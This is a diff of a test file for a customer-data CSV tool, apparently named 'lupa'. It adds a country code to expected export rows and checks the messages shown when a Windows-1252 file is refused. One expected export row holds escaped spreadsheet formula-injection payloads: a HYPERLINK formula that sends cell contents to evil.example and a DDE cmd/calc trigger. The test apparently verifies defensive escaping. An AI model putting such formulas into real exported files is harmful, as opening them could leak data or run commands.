@@ -36,7 +36,7 @@ for (const kind of STORE_KINDS) {
       const post = join(dir, 'post.csv');
       expect((await lupa([...db(), 'export', 'post', '--out', post])).code).toBe(0);
       const f001Post = readFileSync(post, 'utf8').split('\r\n').find((r) => r.startsWith('F001,'));
-      expect(f001Post).toBe(`F001,"'=HYPERLINK(""http://evil.example/?d=""&C2&C3,""Soita tästä"")","'@SUM(1+1)*cmd|' /C calc'!A0",00100,Helsinki,,legitimate_interest`);
+      expect(f001Post).toBe(`F001,"'=HYPERLINK(""http://evil.example/?d=""&C2&C3,""Soita tästä"")","'@SUM(1+1)*cmd|' /C calc'!A0",00100,Helsinki,FI,legitimate_interest`);
     });
 
     it('writes for Finnish Excel with --excel or LUPA_CSV_EXCEL=1: byte-order mark, semicolons, CRLF', async () => {
@@ -47,13 +47,16 @@ for (const kind of STORE_KINDS) {
       for (const file of [byOption, bySetting]) {
         const text = readFileSync(file, 'utf8');
         expect(text.startsWith('\uFEFFcustomerId;name;street;postalCode;city;country;basis\r\n')).toBe(true);
-        expect(text).toContain('F002;Liisa Esimerkki;Aleksanterinkatu 5;00100;Helsinki;;legitimate_interest\r\n');
+        expect(text).toContain('F002;Liisa Esimerkki;Aleksanterinkatu 5;00100;Helsinki;FI;legitimate_interest\r\n');
       }
     });
 
     it('imports a Windows-1252 file only with --encoding windows-1252', async () => {
       const refused = await lupa([...db(), 'import', fixture('csv-windows1252-ansi-umlauts.csv')]);
       expect([refused.code, refused.stderr]).toEqual([1, expect.stringMatching(/^line 2: nothing was imported: the line is not valid UTF-8/m)]);
+      // The file itself was refused: no "read 0 rows" beside "1 rows rejected".
+      expect(refused.stdout).toBe('imported nothing: the file was refused (why: below)\n');
+      expect(refused.stderr).not.toMatch(/rows? rejected/);
       const imported = await lupa([...db(), 'import', '--encoding', 'windows-1252', fixture('csv-windows1252-ansi-umlauts.csv')]);
       expect([imported.code, imported.stdout]).toEqual([0, 'read 2 rows; imported 2 customer\n']);
     });
